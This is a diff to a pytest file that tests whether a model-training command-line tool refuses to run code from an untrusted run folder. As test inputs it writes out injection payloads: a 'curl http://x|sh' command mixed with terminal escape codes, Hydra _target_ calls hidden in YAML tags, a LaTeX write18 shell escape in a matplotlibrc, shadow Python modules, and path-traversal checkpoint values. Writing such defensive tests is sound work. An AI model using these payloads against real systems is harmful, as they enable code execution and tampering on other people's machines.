@@ -1,6 +1,9 @@
 """A run folder from a stranger: each way to have code run is tried, and none is taken."""
 
+import json
 import os
+import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -8,7 +11,7 @@ from itertools import product
 
 import pytest
 import yaml
-from cli_helpers import contents, refused, trained, vaekl
+from cli_helpers import SMALL, contents, refused, trained, vaekl
 
 MINE = """
 from pathlib import Path
@@ -72,43 +75,62 @@ def test_a_strangers_config_calls_nothing(attack, verb, run, tmp_path, monkeypat
     assert contents(folder) == before | ({".lock": b""} if verb == "resume" else {})
 
 
-def test_what_is_vouched_for_is_called(tmp_path, monkeypatch):
-    (tmp_path / "mine.py").write_text(MINE)
-    words = [sys.executable, "-m", "vaekl"]
+@pytest.mark.parametrize("tag", ["!!pairs", "!!omap", "!!set", "!!python/tuple"])
+@pytest.mark.parametrize("target", ["torch.load", "joblib.load", "${oc.env:HOME}"])
+def test_tags_hide_nothing(tag, target, run, tmp_path):
+    """YAML makes lists of tuples of some, and Hydra calls what is in those."""
+    folder = shutil.copytree(run, tmp_path / "run")
+    file = folder / "config.yaml"
+    attack = f"hidden: {tag} [a: {{_target_: '{target}', f: evil.pt}}]"
+    file.write_text(re.sub(r"hidden:\n +- 16", attack, file.read_text()))
+    assert attack in file.read_text()
+    refused(vaekl(tmp_path, "eval", str(folder)), str(file), "tags")
+
+
+def test_what_is_vouched_for_is_called_and_nothing_else(tmp_path):
+    (tmp_path / "mine.py").write_text("import os\n" + MINE)
+    words = [sys.executable, "-P", "-m", "vaekl"]  # -P: as the installed command, whose path does not begin here
 
     def run(*more):
         environment = {**os.environ, "OMP_NUM_THREADS": "1"}
-        return subprocess.run([*words, *more], cwd=tmp_path, capture_output=True, text=True, env=environment)
+        answer = subprocess.run([*words, *more], cwd=tmp_path, capture_output=True, text=True, env=environment)
+        ran = (tmp_path / "ran").exists()
+        (tmp_path / "ran").unlink(missing_ok=True)
+        return answer, ran
 
     small = ("trainer.steps=2", "trainer.valid_every=2", "model.hidden=[4]", "hydra.run.dir=run")
-    custom = ("likelihood=custom", "likelihood._target_=mine.Mine")
-    assert run("train", *custom, *small).returncode == 0
-    (tmp_path / "ran").unlink()
-    answer = run("eval", "run", "eval.k=1", "--trust", "min")
+    answer, ran = run("train", "likelihood=custom", "likelihood._target_=mine.Mine", *small)
+    assert (answer.returncode, ran) == (0, True), answer.stderr
+    answer, ran = run("eval", "run", "eval.k=1", "--trust", "min")
     assert answer.returncode == 1 and "'mine.Mine' called" in answer.stderr and "--trust mine" in answer.stderr
-    assert not (tmp_path / "ran").exists()
-    answer = run("eval", "run", "eval.k=1", "--trust", "mine")
-    assert answer.returncode == 0, answer.stderr
-    assert (tmp_path / "ran").exists()
+    assert not ran
+    answer, ran = run("eval", "run", "eval.k=1", "--trust", "mine")
+    assert (answer.returncode, ran) == (0, True), answer.stderr
+    stranger(tmp_path / "run", "likelihood", {"_target_": "mine.os.mkdir", "path": "made"})
+    answer, _ = run("eval", "run", "eval.k=1", "--trust", "mine")
+    assert answer.returncode == 1 and "'mine.os.mkdir' called" in answer.stderr
+    assert not (tmp_path / "made").exists()
 
 
 def test_what_lies_in_a_strangers_folder_is_not_imported(run, tmp_path):
-    """TensorBoard looks for TensorFlow, and would find it where the command is typed."""
+    """TensorBoard looks for TensorFlow, Rich for colorama, and more: all would be found where the command is typed."""
     folder = shutil.copytree(run, tmp_path / "run")
-    (folder / "tensorflow.py").write_text("from pathlib import Path\nPath('ran').touch()\n")
+    for name in ("tensorflow", "tqdm", "pandas", "psutil", "pynvml", "colorama", "gmpy2", "defusedxml", "triton"):
+        (folder / f"{name}.py").write_text("from pathlib import Path\nPath('ran').touch()\nraise ImportError\n")
     (folder / "results.json").unlink()
     environment = {**os.environ, "OMP_NUM_THREADS": "1"}
-
-    def imported(*words):
-        # -P: as the installed command, which does not begin its path here
-        command = [sys.executable, "-P", "-m", "vaekl", *words]
+    for verb in (["resume", "."], ["eval", ".", "eval.k=1"], ["train", "hydra.run.dir=new", *SMALL]):
+        command = [sys.executable, "-P", "-m", "vaekl", *verb]
         answer = subprocess.run(command, cwd=folder, capture_output=True, text=True, env=environment)
-        if answer.returncode == 0:
-            (folder / "results.json").unlink()
-        return (folder / "ran").exists()
+        assert answer.returncode == 0, answer.stderr
+        assert not (folder / "ran").exists()
 
-    assert not imported("resume", ".")
-    assert imported("resume", ".", "--trust", "mine")
+
+@pytest.mark.parametrize("library", ["os", "torch", "torch.optim", "vaekl", "numpy", "hydra.utils"])
+def test_a_library_cannot_be_vouched_for(library, run, tmp_path):
+    folder = stranger(shutil.copytree(run, tmp_path / "run"), "likelihood._target_", f"{library}.load")
+    assert "--trust" not in refused(vaekl(tmp_path, "eval", str(folder)), "somebody changed it")
+    refused(vaekl(tmp_path, "eval", str(folder), "--trust", library), f"--trust {library} would let")
 
 
 @pytest.mark.parametrize("word", ["--trust", "--trust=", "--trust=a b", "--trust=os.system()"])
@@ -163,3 +185,49 @@ def test_nothing_is_written_through_a_link(verb, link, run, tmp_path):
     answer = vaekl(tmp_path, verb, "sweep" if verb == "report" else "sweep/run", *more)
     assert answer.code == 0 or refused(answer, link.split("/")[0])
     assert contents(mine) == ({} if is_folder else {"diary": b"step,split\n"})
+
+
+def test_control_characters_do_not_reach_the_terminal(run, tmp_path):
+    """They clear the screen, name the window, fill the clipboard; and a command to be pasted is one command."""
+    folder = shutil.copytree(run, tmp_path / "run")
+    file = folder / "versions.json"
+    facts = json.loads(file.read_text())
+    facts["command"] = "vaekl train\n\x1b[2Jevil; curl http://x|sh"
+    facts["likelihood"]["name"] = "\x1b]0;pwn\x07\x1b[31mX\x9b"
+    file.write_text(json.dumps(facts))
+    answer = vaekl(tmp_path, "audit", "run")
+    assert answer.code == 0
+    assert not set(answer.out) & {chr(code) for code in (*range(10), *range(11, 32), *range(127, 160))}
+    pasted = next(line for line in answer.out.splitlines() if "curl" in line)
+    assert shlex.split(pasted.partition("train it")[2])[-1] == "http://x|sh" and "'http://x|sh'" in pasted
+
+
+def test_a_report_obeys_no_matplotlibrc_of_a_stranger(run, tmp_path):
+    (tmp_path / "sweep").mkdir()
+    shutil.copytree(run, tmp_path / "sweep" / "run")
+    (tmp_path / "matplotlibrc").write_text("text.usetex: True\ntext.latex.preamble: \\immediate\\write18{touch ran}\n")
+    (tmp_path / "latex").write_text("#!/bin/sh\ntouch latex_ran\nexit 1\n")
+    (tmp_path / "latex").chmod(0o755)
+    environment = {**os.environ, "OMP_NUM_THREADS": "1", "PATH": f"{tmp_path}:{os.environ['PATH']}"}
+    command = [sys.executable, "-P", "-m", "vaekl", "report", "sweep", "report.pictures=0", "report.measure=false"]
+    answer = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, env=environment)
+    assert answer.returncode == 0, answer.stderr
+    assert not (tmp_path / "latex_ran").exists()
+
+
+def test_the_processes_of_a_sweep_import_nothing_from_where_it_was_typed(tmp_path):
+    for name in ("joblib", "vaekl", "torch"):
+        (tmp_path / f"{name}.py").write_text("from pathlib import Path\nPath('ran').touch()\n")
+    environment = {**os.environ, "OMP_NUM_THREADS": "1"}
+    command = [sys.executable, "-P", "-m", "vaekl", "train", "-m", "seed=0,1", *SMALL]
+    answer = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, env=environment)
+    assert answer.returncode == 0, answer.stderr
+    assert not (tmp_path / "ran").exists()
+
+
+@pytest.mark.parametrize("weights", ["../../x", "/dev/zero", 3, None, ["last.pt"]], ids=str)
+def test_results_name_only_the_run_s_own_checkpoints(weights, run, tmp_path):
+    folder = shutil.copytree(run, tmp_path / "run")
+    figures = json.loads((folder / "results.json").read_text()) | {"weights": weights}
+    (folder / "results.json").write_text(json.dumps(figures))
+    refused(vaekl(tmp_path, "eval", "run"), "results.json", "no checkpoint")
